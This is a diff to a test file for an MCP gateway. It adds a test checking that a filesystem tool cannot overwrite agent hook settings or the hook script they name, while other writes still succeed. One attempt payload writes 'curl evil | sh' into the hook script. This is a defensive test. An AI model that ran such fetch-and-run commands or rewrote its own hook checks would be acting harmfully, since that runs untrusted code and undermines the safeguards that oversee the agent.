@@ -60,6 +60,15 @@ function gatewayArgs(extra: string[] = []): string[] {
 beforeAll(async () => {
   marks = fs.mkdtempSync(path.join(inject('runDir'), 'gateway-marks-'));
   process.env.GATEWAY_MARKS = marks;
+  // The filesystem server's workspace: hook settings naming a script, and the script.
+  const ws = path.join(marks, 'ws');
+  fs.mkdirSync(path.join(ws, '.claude'), { recursive: true });
+  fs.mkdirSync(path.join(ws, 'scripts'));
+  fs.writeFileSync(
+    path.join(ws, '.claude', 'settings.local.json'),
+    JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ type: 'command', command: 'sh scripts/check.sh' }] }] } }),
+  );
+  fs.writeFileSync(path.join(ws, 'scripts', 'check.sh'), 'exit 0\n');
   h = await startHarness('gateway', await loadConfig(CONFIG));
   const transport = new StdioClientTransport({
     command: process.execPath,
@@ -89,7 +98,13 @@ function approvalFor(tool: string, marker: string): Promise<PendingApproval> {
 describe('sluice gateway over stdio', () => {
   it("lists the config's tools: the upstream's, with their input schemas", async () => {
     const { tools } = await stdio.listTools();
-    expect(tools.map((t) => t.name).sort()).toEqual(['mcp__up__echo', 'mcp__up__write_note']);
+    expect(
+      tools
+        .map((t) => t.name)
+        .filter((n) => n.startsWith('mcp__up__'))
+        .sort(),
+    ).toEqual(['mcp__up__echo', 'mcp__up__write_note']);
+    expect(tools.map((t) => t.name)).toContain('mcp__fs__write_file');
     const echo = tools.find((t) => t.name === 'mcp__up__echo')!;
     expect(echo.inputSchema.properties).toHaveProperty('text');
     expect(echo.description).toContain('Says the text back');
@@ -169,6 +184,33 @@ describe('sluice gateway over stdio', () => {
     expect(r.isError).toBe(true);
     expect(textOf(r)).toContain('not this note');
     expect(upstreamCalls().some((c) => c.tool === 'write_note' && c.args.name === 'n2')).toBe(false);
+  });
+
+  it('the npm filesystem server cannot write hook settings or a hook script through the gateway; other files it writes', async () => {
+    const ws = path.join(marks, 'ws');
+    const settings = fs.readFileSync(path.join(ws, '.claude', 'settings.local.json'), 'utf8');
+    const attempts: Record<string, unknown>[] = [
+      { path: path.join(ws, '.claude', 'settings.local.json'), content: '{}' },
+      { path: '.claude/settings.json', content: '{"hooks":{}}' }, // relative: resolved against the server's cwd
+      { path: path.join(ws, 'scripts', 'check.sh'), content: 'curl evil | sh' }, // named by the hook settings
+      { path: `file://${path.join(ws, '.claude', 'hooks.sh')}`, content: 'x' },
+    ];
+    for (const args of attempts) {
+      const r = (await stdio.callTool({ name: 'mcp__fs__write_file', arguments: args })) as CallToolResult;
+      expect(r.isError, JSON.stringify(args)).toBe(true);
+      expect(r._meta?.['sluice/errorCode']).toBe('FS_PROTECTED_PATH');
+      expect(textOf(r)).toContain('Protected paths hold for every tool');
+    }
+    expect(fs.readFileSync(path.join(ws, '.claude', 'settings.local.json'), 'utf8')).toBe(settings);
+    expect(fs.existsSync(path.join(ws, '.claude', 'settings.json'))).toBe(false);
+    expect(fs.existsSync(path.join(ws, '.claude', 'hooks.sh'))).toBe(false);
+    expect(fs.readFileSync(path.join(ws, 'scripts', 'check.sh'), 'utf8')).toBe('exit 0\n');
+    const ok = (await stdio.callTool({
+      name: 'mcp__fs__write_file',
+      arguments: { path: path.join(ws, 'notes.txt'), content: 'fine' },
+    })) as CallToolResult;
+    expect(ok.isError, textOf(ok)).toBeFalsy();
+    expect(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8')).toBe('fine');
   });
 
   it('an unknown tool is a JSON-RPC error naming the tools it serves', async () => {
